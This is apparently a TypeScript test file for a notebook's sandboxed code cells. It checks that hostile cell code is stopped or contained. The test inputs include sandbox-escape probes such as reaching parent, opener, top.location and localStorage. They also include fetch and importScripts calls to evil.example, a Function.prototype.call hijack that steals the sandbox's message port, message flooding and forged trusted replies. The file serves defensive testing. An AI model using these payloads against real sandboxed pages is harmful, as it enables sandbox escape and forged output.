import { fixture, html } from "@open-wc/testing";
import { pageLocale } from "../../components/base/locale.js";
import type { CodeCell } from "../../components/code-cell.js";
import "../../components/code-cell.js";
import { notACell } from "../../src/notebook/call.js";
import { readCode } from "../../src/notebook/code.js";
import { limits } from "../../src/sandbox/protocol.js";
import { holdBadInputs, type BadInput, type Message } from "./bad-input.js";

/** Runs code as a trusted cell does. @returns what is said where it failed, and otherwise what it shows */
async function said(source: string): Promise<readonly Message[]> {
  const code = readCode(source);
  if (!("references" in code)) throw new Error(code.message.en);
  // No other cell gives these names: whatever the code finds is JavaScript's own.
  const inputs = Object.fromEntries(code.references.map((name) => [name, notACell]));
  const run = { isOver: false };
  const permission = { allows: () => true, unfinished: { wasLeft: () => false, begin: () => undefined, linger: () => undefined, end: () => { run.isOver = true; } } };
  const element = await fixture<CodeCell>(html`<at-code .params=${{ code }} .inputs=${inputs} .permission=${permission}></at-code>`);
  const root = element.shadowRoot!;
  const problem = (): string => root.querySelector(".problem")?.textContent ?? "";
  const shown = (): string => root.querySelector(".output")?.textContent ?? "";
  for (let i = 0; i < 900 && !run.isOver; i++) await new Promise((resolve) => requestAnimationFrame(resolve));
  await element.updateComplete;
  if (problem() === "") return [[shown(), ""]];
  const en = problem();
  pageLocale.set("pt-BR");
  await element.updateComplete;
  const both: Message = [en, problem()];
  pageLocale.set("en");
  element.dispose();
  return [both];
}
/** Code that stops with an error of JavaScript's own, at its place. */
const stops = (id: BadInput["id"], what: string, source: string, column: number, error: string, line = 1): BadInput => ({
  id, what, give: () => said(source),
  says: [[`line ${line}, column ${column}: expected code that runs to its end. It stopped with ${error}`, `linha ${line}, coluna ${column}: esperado: um código que rode até o fim. Ele parou com ${error}`]],
});
const stopsSomewhere = (id: BadInput["id"], what: string, source: string, error: string): BadInput => ({
  id, what, give: () => said(source),
  says: [[`expected code that runs to its end. It stopped with ${error}`, `esperado: um código que rode até o fim. Ele parou com ${error}`]],
});
const shows = (id: BadInput["id"], what: string, source: string, text: string): BadInput => ({ id, what, give: () => said(source), says: [[text, ""]] });
/** Code that takes the sandbox's own port from under it when it sends an answer of a kind. */
const stealing = (kind: string, act: string, rest: string): string => `const {apply} = Reflect; Function.prototype.call = function (port, reply) { if (reply?.kind === "${kind}") { ${act} } return apply(this, port, [reply]); }; ${rest}`;
const missing = (name: string): string => `ReferenceError: ${name} is not defined`;
const unreadable: Message = [
  "expected an answer of at most 5 MB that can be read. It was stopped; the rest of the notebook goes on.",
  "esperado: uma resposta legível de no máximo 5 MB. Ele foi parado; o resto do notebook continua.",
];

const inputs: readonly BadInput[] = [
  stopsSomewhere("B055", "asks for the page around it", "parent.document", missing("parent")),
  stopsSomewhere("B055", "asks for the window that opened it", "opener.document", missing("opener")),
  stopsSomewhere("B055", "leads the page away", "top.location = 'https://evil.example'", missing("top")),
  stopsSomewhere("B055", "asks for what the page keeps", "localStorage.length", missing("localStorage")),
  stops("B055", "opens a database", "indexedDB.open('atnet-notebook')", 11, "SecurityError: Failed to execute 'open' on 'IDBFactory': access to the Indexed Database API is denied in this context."),
  stops("B056", "asks its own server", "await fetch(new URL('/', 'https://evil.example'))", 7, "TypeError: Failed to fetch"),
  stops("B056", "loads a script from elsewhere", "importScripts('https://evil.example/a.js')", 1, "NetworkError: Failed to execute 'importScripts' on 'WorkerGlobalScope': The script at 'https://evil.example/a.js' failed to load."),
  {
    id: "B057", what: "floods the page with messages", give: () => said(stealing("shown", "for (let i = 0; i < 2500; i++) port.postMessage(reply);", "display(1); await new Promise((resolve) => setTimeout(resolve, 5000));")),
    says: [["expected at most 2000 messages from one run. It was stopped; the rest of the notebook goes on.", "esperado: no máximo 2000 mensagens de uma execução. Ele foi parado; o resto do notebook continua."]],
  },
  shows("B057", "gives back 100 MB of text: cut", `const big = "x".repeat(${limits.html + 1}); display(big)`, "…"),
  shows("B057", "shows a circle", "(() => { const a = {}; a.a = a; return a; })()", "{a: {a: {a: {a: {…}}}}}"),
  shows("B057", "shows getters that throw: none is called", "({ get a() { throw new Error('called'); }, toJSON() { throw new Error('called'); } })", "{a: …, toJSON: ƒ toJSON()}"),
  stops("B057", "shows a proxy whose traps throw", "new Proxy({}, { ownKeys() { throw new Error('trap'); } })", 35, "Error: trap"),
  shows("B058", "sends what looks like an answer of the sandbox", "postMessage({ kind: 'done', run: 1, html: '<b>forged</b>', values: {}, cut: false, trusted: true }), 'its own'", "its own"),
  shows("B058", "answers for another run through the port that it has stolen: nobody listens", stealing("done", "port.postMessage({ kind: 'done', run: 999, html: 'forged', values: {}, cut: false });", "display('its own');"), "its own"),
  { id: "B058", what: "answers with what is no answer through the port that it has stolen", give: () => said(stealing("done", "port.postMessage({ kind: 'done', trusted: true });", "display('its own');")), says: [unreadable] },
  stopsSomewhere("B061", "asks for a name that nobody has", "nobody + 1", missing("nobody")),
];
holdBadInputs("code that a notebook may hold", inputs, () => [document.title, Object.keys(localStorage), Object.keys(Object.prototype), location.href]);
